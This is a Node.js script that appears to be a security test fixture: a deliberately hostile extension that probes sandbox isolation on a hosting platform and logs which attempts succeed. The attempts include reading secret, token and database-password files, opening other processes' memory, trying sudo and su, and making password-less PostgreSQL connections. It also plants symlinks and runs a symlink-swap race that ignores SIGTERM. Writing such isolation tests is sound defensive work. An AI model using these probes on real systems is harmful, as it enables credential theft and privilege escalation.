// An extension that tries to get at what is not its own: `node hostile.js build|instance`. It writes what came of each try
// into its own checkout: true where it got through, with what it saw.
import { execFileSync } from 'node:child_process'
import {
  closeSync,
  mkdirSync,
  openSync,
  readdirSync,
  readFileSync,
  renameSync,
  rmSync,
  statSync,
  symlinkSync,
  writeFileSync,
} from 'node:fs'
import { connect } from 'node:net'
import { dirname, join } from 'node:path'
import { setTimeout as pause } from 'node:timers/promises'

const [role] = process.argv.slice(2)
const { victim, victimExtension } = JSON.parse(readFileSync('hints.json', 'utf8'))
const controller = process.ppid
const data = argumentOf(controller, '--data')
const url = process.env.BOWLINE_URL ?? addressOf()

/** What it tries, and how: it got through where that gives something true. */
const tries = {
  'read the admin token': () => read('admin-token'),
  'read the key that all keys come from': () => read('secret'),
  'read the sealing keys': () => read('sealing-keys.json'),
  'list the data folder': () => readdirSync(data).length,
  'read the password of the database': () => read('postgres-password'),
  'read the files of the database': () => read('postgres/PG_VERSION'),
  'enter the database by its socket, without a password': () =>
    anyOf(sockets().map((path) => enters({ path }))),
  'enter a database by TCP, without a password': () => enters({ host: '127.0.0.1', port: 5432 }),
  "read the controller's environment": () => readFileSync(`/proc/${controller}/environ`).length,
  "open the controller's memory": () => opens(`/proc/${controller}/mem`, 'r+'),
  "list the controller's open files": () => readdirSync(`/proc/${controller}/fd`).length,
  'signal the controller': () => process.kill(controller, 0),
  "read another instance's environment": () => others().find((pid) => reads(`/proc/${pid}/environ`)),
  "open another instance's memory": () =>
    others().find((pid) => succeeds(() => opens(`/proc/${pid}/mem`, 'r+'))),
  'signal another instance': () => others().find((pid) => succeeds(() => process.kill(pid, 0))),
  "read another extension's checkout": () => places().find((path) => succeeds(() => readdirSync(path))),
  "write in another extension's checkout": () => places().find((path) => writes(join(path, 'planted'))),
  'write in the mirror of the config repository': () => writes(join(data, 'config.git', 'hooks-planted')),
  'write in the data folder': () => writes(join(data, 'planted')),
  'write beside its checkout': () => writes(join(dirname(process.cwd()), 'planted')),
  'read logs of instances': () => readdirSync(join(data, 'runtime/logs')).length,
  'share its temporary folder': () => statSync(process.env.TMPDIR ?? '/tmp').mode & 0o007,
  'become root by sudo': () => prints('sudo', ['-n', 'id', '-u']) === '0',
  'become root by su': () => prints('su', ['-c', 'id -u']) === '0',
  'gain rights by a setuid program': () => !/^NoNewPrivs:\s*1$/m.test(status()),
  'hold a capability': () => !/^CapEff:\s*0+$/m.test(status()),
  'belong to a group of others': () => /^Groups:[\t ]*\d/m.test(status()),
  'leave a core file': () => !/^Max core file size\s+0\s+0/m.test(readFileSync('/proc/self/limits', 'utf8')),
  'start processes without end': () =>
    /^Max processes\s+(unlimited|\d{5,})/m.test(readFileSync('/proc/self/limits', 'utf8')),
  'find secrets in its own environment': () =>
    Object.keys(process.env).filter((name) =>
      /^(BOWLINE_(?!URL|SDK|RUNTIME|BUILD)|DATABASE_URL|GITHUB_)/.test(name),
    ).length,
  'inherit an open file': () => inherited().length,
  'ask the admin API without a token': async () => url && (await fetch(`${url}/api/v1/status`)).ok,
  "ask for another's tasks with its own key": async () =>
    url &&
    process.env.API_KEY &&
    (
      await fetch(`${url}/public/v1/devops/services/${victimExtension}/environments/${victim}/tasks`, {
        headers: { authorization: process.env.API_KEY },
      })
    ).ok,
}

for (let left = 100; left > 0 && others().length === 0; left--) await pause(100)
const came = {}
for (const [what, how] of Object.entries(tries)) {
  try {
    came[what] = Boolean(await how())
  } catch {
    came[what] = false
  }
}
writeFileSync(`${role}.new`, JSON.stringify(came))
renameSync(`${role}.new`, `${role}.json`)
plantLinks()
if (role === 'instance') swapForEver()

/** Links to what is not its own, where the controller might follow them when it removes or hands over. */
function plantLinks() {
  for (const [name, target] of [
    ['to-data', data],
    ['to-canary', join(dirname(data), 'canary')],
  ]) {
    rmSync(name, { force: true })
    symlinkSync(target, name)
  }
}

/** A folder that is a link every other moment, for whoever looks first and acts then. Goes on after SIGTERM, too. */
function swapForEver() {
  process.on('SIGTERM', () => {})
  const target = join(dirname(data), 'canary')
  setInterval(() => {
    for (let turn = 0; turn < 100; turn++) {
      try {
        mkdirSync('swapped', { recursive: true })
        writeFileSync('swapped/bait', '')
        renameSync('swapped', 'aside')
        symlinkSync(target, 'swapped')
        rmSync('swapped')
        renameSync('aside', 'swapped')
      } catch {}
    }
  }, 1)
}

function read(name) {
  return readFileSync(join(data, name)).length
}

function reads(path) {
  return succeeds(() => readFileSync(path).length)
}

function writes(path) {
  return succeeds(() => {
    writeFileSync(path, '')
    rmSync(path)
  })
}

function opens(path, flags) {
  closeSync(openSync(path, flags))
  return true
}

function succeeds(act) {
  try {
    act()
    return true
  } catch {
    return false
  }
}

function prints(program, args) {
  return execFileSync(program, args, { stdio: ['ignore', 'pipe', 'ignore'], timeout: 5_000 })
    .toString()
    .trim()
}

function status() {
  return readFileSync('/proc/self/status', 'utf8')
}

function argumentOf(pid, name) {
  const args = readFileSync(`/proc/${pid}/cmdline`, 'utf8').split('\0')
  return args[args.indexOf(name) + 1]
}

function addressOf() {
  return succeeds(() => readFileSync(join(data, 'controller.json')))
    ? JSON.parse(readFileSync(join(data, 'controller.json'))).url
    : undefined
}

/** Instances of others that the same controller has started: everybody can see that they are there. */
function others() {
  return readdirSync('/proc')
    .filter((pid) => /^\d+$/.test(pid) && isOther(pid))
    .map(Number)
}

function isOther(pid) {
  try {
    const parent = readFileSync(`/proc/${pid}/stat`, 'utf8').split(') ').at(-1).split(' ')[1]
    return Number(parent) === controller && readFileSync(`/proc/${pid}/cmdline`, 'utf8').includes('main.js')
  } catch {
    return false
  }
}

/** Where the other extension may be. */
function places() {
  return [
    join(data, 'shared/extensions', victim),
    join(data, 'shared/extensions', victim, 'releases'),
    join(data, 'runtime/releases', victim),
  ]
}

/** Of PostgreSQL: the system tells everybody their names. */
function sockets() {
  return [...readFileSync('/proc/net/unix', 'utf8').matchAll(/ (\/\S+\.s\.PGSQL\.\d+)$/gm)].map(
    ([, path]) => path,
  )
}

async function anyOf(all) {
  return (await Promise.all(all)).includes(true)
}

/** Says who we are as PostgreSQL's protocol has it; `R` with 0 is its word for "come in". */
function enters(where) {
  return new Promise((resolve) => {
    const socket = connect(where)
    const parameters = Buffer.from('user\0bowline\0database\0bowline\0\0')
    const head = Buffer.alloc(8)
    head.writeInt32BE(8 + parameters.length, 0)
    head.writeInt32BE(196_608, 4)
    socket.once('connect', () => socket.write(Buffer.concat([head, parameters])))
    socket.once('data', (answer) => resolve(answer[0] === 82 && answer.readInt32BE(5) === 0))
    socket.once('error', () => resolve(false)).once('close', () => resolve(false))
    setTimeout(() => socket.destroy(), 2_000).unref()
  })
}

/** Descriptors of a fresh shell beside its own three. */
function inherited() {
  const out = execFileSync('/bin/sh', ['-c', 'ls /proc/$$/fd; true'], {
    stdio: ['inherit', 'pipe', 'inherit'],
  }).toString()
  return out
    .trim()
    .split('\n')
    .filter((each) => Number(each) > 2 && Number(each) !== 255)
}
